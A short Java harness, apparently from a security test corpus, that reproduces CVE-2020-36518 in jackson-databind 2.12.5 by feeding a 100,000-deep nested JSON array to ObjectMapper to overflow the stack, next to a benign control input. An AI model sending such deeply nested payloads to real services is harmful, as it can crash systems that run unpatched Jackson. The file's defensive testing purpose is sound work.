package corpus.jackson;

import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.ObjectMapper;
import corpus.CorpusDriver;

/**
 * jackson-databind 2.12.5, CVE-2020-36518: arrays nested without limit read into {@code Object}
 * make {@code UntypedObjectDeserializer} recurse until the stack runs out (fixed in 2.12.6.1/2.13.2.1).
 *
 * <p>Compiled against the test classpath's newer Jackson (the calls used here have the same
 * signatures in both), run in the child JVM against 2.12.5 only, from {@code target/corpus-libs/jackson}.
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = CorpusDriver.nested("[", "1", "]", depth);
        ObjectMapper mapper = new ObjectMapper().enable(DeserializationFeature.UNWRAP_SINGLE_VALUE_ARRAYS);
        CorpusDriver.run("jackson", ObjectMapper.class,
                () -> mapper.readValue("{\"name\":\"benign\",\"items\":[1,[2,[3]]],\"map\":{\"a\":\"b\"}}", Object.class),
                () -> mapper.readValue(hostile, Object.class));
    }
}
